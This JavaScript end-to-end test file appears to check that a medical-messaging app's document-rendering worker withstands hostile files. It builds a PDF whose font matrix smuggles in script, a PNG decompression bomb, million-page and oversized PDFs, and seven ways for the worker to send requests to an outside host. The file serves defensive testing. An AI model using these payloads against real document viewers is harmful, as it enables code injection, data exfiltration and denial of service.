// What a stranger sends is drawn for the nurse in a worker: hostile files sealed by an invented family, opened on the page of
// the box as she opens every envelope.
import { deflateSync } from 'node:zlib';
import { newId, person } from '../contract/client.mjs';
import { freshPage } from '../end_to_end/harness.mjs';
import { asPdf } from '../end_to_end/papers.mjs';
import { signIn } from '../end_to_end/people.mjs';

const phrase = 'tilleul-jardin-crayon-violon-marmite-soleil';

// --- files
const crcTable = Array.from({ length: 256 }, (_, n) => { for (let k = 0; k < 8; k += 1) n = n & 1 ? 0xedb88320 ^ (n >>> 1) : n >>> 1; return n >>> 0; });
const crc = (bytes) => (bytes.reduce((c, byte) => crcTable[(c ^ byte) & 255] ^ (c >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0;
function chunk(name, data) {
  const body = Buffer.concat([Buffer.from(name), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc(body));
  return Buffer.concat([length, body, sum]);
}
// A grey square, well made, whatever its side: a few kilobytes for billions of points.
function png(side, rows = side) {
  const header = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0]);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  const line = Buffer.alloc(1 + Math.ceil(side / 8), 0x55);
  line[0] = 0;
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.concat(Array(rows).fill(line)))), chunk('IEND', Buffer.alloc(0))]);
}

function pdf(objects) {
  let text = '%PDF-1.7\n';
  const places = objects.map((body, i) => {
    const at = text.length;
    text += `${i + 1} 0 obj\n${body}\nendobj\n`;
    return at;
  });
  const xref = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')}`;
  return Buffer.from(`${text}trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${xref}\n%%EOF\n`, 'latin1');
}
const drawn = (text) => `<</Length ${text.length}>>\nstream\n${text}\nendstream`;
// `pages` of them, told by a tree whose leaves are a thousand each.
function pagesOf(pages) {
  const leaf = Math.min(pages, 1000);
  const branches = Math.ceil(pages / leaf);
  const page = '<</Type/Page/Parent 3 0 R/MediaBox[0 0 200 200]/Contents 5 0 R>>';
  return pdf([
    '<</Type/Catalog/Pages 2 0 R>>', `<</Type/Pages/Count ${pages}/Kids[${'3 0 R '.repeat(branches)}]>>`,
    `<</Type/Pages/Parent 2 0 R/Count ${leaf}/Kids[${'4 0 R '.repeat(leaf)}]>>`, page, drawn('0 0 0 rg 20 20 160 160 re f'),
  ]);
}
const pageOfSide = (side) => pdf([
  '<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Count 1/Kids[3 0 R]>>',
  `<</Type/Page/Parent 2 0 R/MediaBox[0 0 ${side} ${side}]/Contents 4 0 R>>`, drawn(`0 0 0 rg 0 0 ${side / 2} ${side / 2} re f`),
]);
// The matrix of a font is six numbers; a reader that pastes them into a function runs what one of them says.
const withMatrix = (paper, matrix) => Buffer.from(paper.toString('latin1').replaceAll('/Subtype /CIDFontType2', `/FontMatrix [${matrix}] /Subtype /CIDFontType2`), 'latin1');
const honest = '0.001 0 0 0.001 0 0';
const hostile = '0.001 0 0 0.001 0 (0\\); globalThis.ran = 1; \\(0)';

// `stranger`: another machine's address, and what reached it.
export async function drawing(box, row, stranger) {
  const letter = box.people.lettres[2];
  const anne = await person(box.origin, { from: '127.1.77.1' });
  await anne.activate(letter, phrase);
  const { racine, epoque_min } = await anne.signIn(letter.identifiant, phrase);
  await anne.acceptDirectory(racine, epoque_min);
  const [{ id: volet }] = (await anne.need(200, 'GET', '/api/v1/moi')).volets;
  const { maintenant } = await anne.need(200, 'GET', '/api/v1/accueil');
  const seal = async (bytes) => {
    const pli = newId();
    const { corps, manifeste } = anne.vault('sealAttachment', { volet, pli, version: 1, precedent: '', maintenant, metadonnees: { nature: 'ordonnance' }, donnees: new Uint8Array(bytes) });
    await anne.need(201, 'PUT', `/api/v1/volets/${volet}/plis/${pli}/1`, { body: { envoi: await anne.upload(volet, corps, 'scelle'), manifeste } });
    return pli;
  };
  const paper = await asPdf('<!doctype html><meta charset="utf-8"><body style="font: 40px Liberation Sans">Ordonnance : une cuillère matin et soir.</body>');
  if (!paper.includes('/Subtype /CIDFontType2')) throw new Error('the paper has no font to change');
  const files = {
    honest: await seal(withMatrix(paper, honest)), font: await seal(withMatrix(paper, hostile)),
    small: await seal(png(400)), flood: await seal(png(30_000, 300)),
    allowed: await seal(pagesOf(200)), pages: await seal(pagesOf(1_000_000)), plain: await seal(pageOfSide(500)), wide: await seal(pageOfSide(1_000_000)),
  };

  const nurse = await freshPage({ width: 1280, height: 800 });
  const { identifiant, phrase: hers } = box.people.infirmerie;
  await signIn(nurse, `${box.origin}/infirmerie`, identifiant, hers);
  await nurse.getByLabel('Phrase de votre clé').fill(box.people.phrase_trousseau);
  await nurse.getByRole('button', { name: 'Ouvrir avec ma clé' }).click();
  await nurse.getByRole('heading', { name: 'Enveloppes' }).waitFor({ timeout: 60_000 });

  // Opens one envelope as she does. Answers what it shows: the drawing's size and ink, or the sentence of the refusal; `inside` is
  // asked of the worker that drew.
  async function open(pli, inside) {
    await nurse.locator(`a[href="/infirmerie/plis/${pli}"]`).click();
    const canvas = nurse.locator('canvas.page-dessinee');
    const refusal = nurse.locator('.alerte-erreur');
    const began = Date.now();
    await canvas.or(refusal).first().waitFor({ timeout: 45_000 });
    const seen = { took: Date.now() - began, refused: (await refusal.count()) ? await refusal.first().innerText() : '' };
    if (!seen.refused)
      Object.assign(seen, await canvas.evaluate((one) => {
        const { data } = one.getContext('2d').getImageData(0, 0, one.width, one.height);
        let dark = 0;
        for (let i = 0; i < data.length; i += 4) dark += data[i] < 128 ? 1 : 0;
        return { width: one.width, height: one.height, dark };
      }));
    const worker = nurse.workers().find((one) => one.url().includes('dessin'));
    if (inside) seen.inside = worker ? await inside(worker) : 'no worker';
    seen.pages = await nurse.getByText(/^Page \d+ sur \d+$/).first().textContent().catch(() => '');
    await nurse.getByRole('link', { name: /Toutes les enveloppes/ }).click();
    await nurse.getByRole('heading', { name: 'Enveloppes' }).waitFor();
    return seen;
  }
  const ran = (worker) => worker.evaluate(() => String(globalThis.ran));
  await row('A46', 'a font whose matrix holds a script, in a PDF drawn for the nurse', {
    attack: async () => (await open(files.font, ran)).inside !== 'undefined' || (await nurse.evaluate(() => 'ran' in globalThis)),
    // The same letter with six numbers is drawn, and what runs in that worker is seen from here.
    twin: async () => {
      const { dark, inside } = await open(files.honest, async (worker) => {
        await worker.evaluate(() => { globalThis.ran = 2; });
        return ran(worker);
      });
      return dark > 500 && inside === '2';
    },
  });

  const ways = async (there) => {
    const tried = {
      fetch: () => fetch(`${there}/fetch`, { mode: 'no-cors' }),
      xhr: () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', `${there}/xhr`); x.onload = done; x.onerror = fail; x.send(); }),
      socket: () => new Promise((done, fail) => { const s = new WebSocket(`${there.replace('http', 'ws')}/socket`); s.onopen = done; s.onerror = fail; }),
      events: () => new Promise((done, fail) => { const s = new EventSource(`${there}/events`); s.onopen = done; s.onerror = () => { s.close(); fail(); }; }),
      module: () => import(`${there}/module.js`),
      script: () => (globalThis.importScripts ? importScripts(`${there}/script.js`) : Promise.reject()),
      worker: () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob([`fetch('${there}/worker', { mode: 'no-cors' }).then(() => postMessage(1))`]))); w.onmessage = done; w.onerror = fail; setTimeout(fail, 1500); }),
    };
    for (const way of Object.values(tried)) {
      try { await Promise.race([way(), new Promise((later) => setTimeout(later, 2000))]); } catch { /* stopped */ }
    }
    return typeof RTCPeerConnection === 'function';
  };
  await row('A47', 'WebRTC, seven other ways out of the worker that draws', {
    attack: async () => {
      stranger.reached.length = 0;
      const { inside } = await open(files.honest, (worker) => worker.evaluate(ways, stranger.address));
      return inside !== false || stranger.reached.length > 0;
    },
    // Where nothing is forbidden the same words get out, and there is WebRTC.
    twin: async () => {
      const free = await freshPage();
      await free.goto(stranger.address);
      stranger.reached.length = 0;
      const peer = await free.evaluate(ways, stranger.address);
      await free.context().close();
      return peer && ['/fetch', '/xhr', '/events', '/module.js', '/worker'].every((path) => stranger.reached.includes(path));
    },
  });

  await row('A48', 'nine hundred million points in a picture', {
    attack: async () => { const seen = await open(files.flood); return !/trop grande/.test(seen.refused) || seen.took > 5000; },
    twin: async () => (await open(files.small)).width === 400,
  });
  await row('A48', 'a million pages', {
    attack: async () => { const seen = await open(files.pages); return !/trop de pages/.test(seen.refused) || seen.took > 10_000; },
    twin: async () => (await open(files.allowed)).pages === 'Page 1 sur 200',
  });
  await row('A48', 'a page a kilometre wide', {
    attack: async () => { const { width, height } = await open(files.wide); return !(width <= 2000 && height <= 2000); },
    twin: async () => (await open(files.plain)).dark > 500,
  });
  await nurse.context().close();
}
